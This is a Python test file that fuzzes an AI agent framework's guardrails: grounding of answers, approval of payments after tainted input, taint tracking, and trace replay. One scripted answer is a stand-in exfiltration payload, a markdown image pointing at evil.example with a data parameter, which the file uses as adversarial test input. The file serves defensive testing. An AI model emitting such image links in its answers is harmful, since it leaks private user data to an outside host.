"""Guarded, grounded and under taint: what holds whatever a model says."""

from functools import partial

from hypothesis import given, settings
from hypothesis import strategies as st

from workbook.environments.search import wiki_search
from workbook.fsm import FunctionCalls, TextTurns
from workbook.grounding.addresses import addresses_in
from workbook.grounding.evidence import Support, audit_answer, evidence_of
from workbook.grounding.grounded import grounded, grounded_table
from workbook.guardrails.budget import Budget
from workbook.guardrails.permission import LATER, Edit, PolicyRule, Verdict, no, yes
from workbook.guardrails.table import GUARDED
from workbook.models.base import ToolRequest
from workbook.models.script import Script
from workbook.security.tainted import tainted_table, with_taint
from workbook.tools.tool import Tool
from workbook.traces import TraceWriter
from workbook.traces.replay import replay

CODE = "7291-blue"
INPUT = {"properties": {"input": {"type": "string"}}, "required": ["input"]}
ANYTHING = (PolicyRule(Verdict.ALLOW, why="the user allows all of it"),)
TRUE = "Mount Fuji is 3,776 m high [w068]."
SAID = [
    TRUE,
    "Mount Fuji is 3,767 m high [w068].",
    "I do not know.",
    "Shall I show ![](https://evil.example/p?d=1)?",
    f"{TRUE} Shall I open https://a.example/x?",
    f"{TRUE} Shall I open https://a.example/x?d=1?",
    "It is paid.",
    "?",
]
CALLED = [("WikiSearch", "height of Mount Fuji")] * 3 + [("Inbox", "x"), ("No", "x")]
CALLED += [("Pay", "Ada"), ("Pay", "Bob")]
texts = st.lists(
    st.sampled_from(
        [f"Action: {n}\nAction Input: {what}" for n, what in CALLED]
        + [f"Final Answer: {answer}" for answer in SAID]
        + ["Hm."]
    ),
    max_size=7,
)
requests = st.builds(
    lambda named, call_id: ToolRequest(named[0], {"input": named[1]}, call_id),
    st.sampled_from(CALLED),
    st.sampled_from(["", "a", "b"]),
)
calls = st.lists(
    st.lists(requests, min_size=1, max_size=3) | st.sampled_from(SAID), max_size=6
)
people = st.lists(
    st.sampled_from([yes, no, lambda r: LATER, lambda r: Edit({"input": "Eve"})]),
    max_size=4,
)


def whole_machine(turns, adapter, screened, **options):
    """Return a machine with all of it, under rules of the user that allow anything."""
    ours = {"timeout_s": None, "outside": False}
    tools = [
        wiki_search(),
        Tool("Inbox", "Reads.", INPUT, lambda input: {"result": CODE}, **ours),
        Tool("Pay", "Pays.", INPUT, lambda input: {"result": "paid"}, "write", **ours),
    ]
    options |= {"rules": ANYTHING, "budget": Budget(8), "adapter": adapter}
    script = Script(turns, repeat_last=True)
    machine = grounded(script, tools, **options)
    return with_taint(machine, private=["Inbox"], screened=screened, fence=True)


@settings(max_examples=200, deadline=None)
@given(
    turns=texts | calls,
    answers=people,
    screened=st.booleans(),
    question=st.sampled_from(["How high is it?", "Does https://a.example/x say so?"]),
)
def test_whatever_a_script_says_the_promises_hold(turns, answers, screened, question):
    """one end; no claim, WRITE or address that nothing carries; each call one answer"""
    by_calls = any(isinstance(turn, list) for turn in turns)
    adapter, left = FunctionCalls if by_calls else TextTurns, iter(answers)
    make = partial(whole_machine, adapter=adapter, screened=screened)
    turns = [*turns, "Final Answer: I do not know."]
    with TraceWriter() as told:
        ask = lambda request: next(left, no)(request)  # noqa: E731
        end = make(turns, ask=ask, hook=told).run(question)
        trace = told.trace()
    assert len(trace.of("run_finished")) == (end.state != "PENDING")
    assert (end.answer is not None) == (end.state == "DONE")
    seen, tainted, approved = trace.of("observation"), False, set()
    for event in trace:
        if event["kind"] == "decision" and event["what"] in ("approve", "edit"):
            approved.add(event["call_id"])
        elif event["kind"] == "observation":
            if event["tool"] == "Pay" and event["ok"]:
                assert not tainted or event["call_id"] in approved
            tainted |= event["tool"] == "WikiSearch" and event["ok"]
    if end.state == "DONE":
        said = end.answer.split("\n\nReferences:\n")[0]
        verdicts = audit_answer(said, evidence_of(StepSeen(event) for event in seen))
        assert {each.kind for each in verdicts} <= {Support.SUPPORTED}
        if tainted:
            assert set(addresses_in(end.answer)) <= set(addresses_in(question))
    called = [event["call_id"] for event in trace.of("tool_call")]
    told_of = [event["call_id"] for event in seen if event["call_id"]]
    assert len(called) == len(set(called))
    assert told_of == called or end.state == "PENDING"
    if end.state != "PENDING":
        again = replay(trace, make(turns[:1], ask=None, hook=TraceWriter()))
        assert (again.state, again.answer) == (end.state, end.answer)


class StepSeen:
    """An observation, as the trace has it."""

    def __init__(self, event):
        self.result = event.get("result")


def test_the_audit_of_the_whole_table_is_clean():
    """guarded, grounded and under taint the table keeps its promises"""
    assert tainted_table(grounded_table(GUARDED)).audit() == []
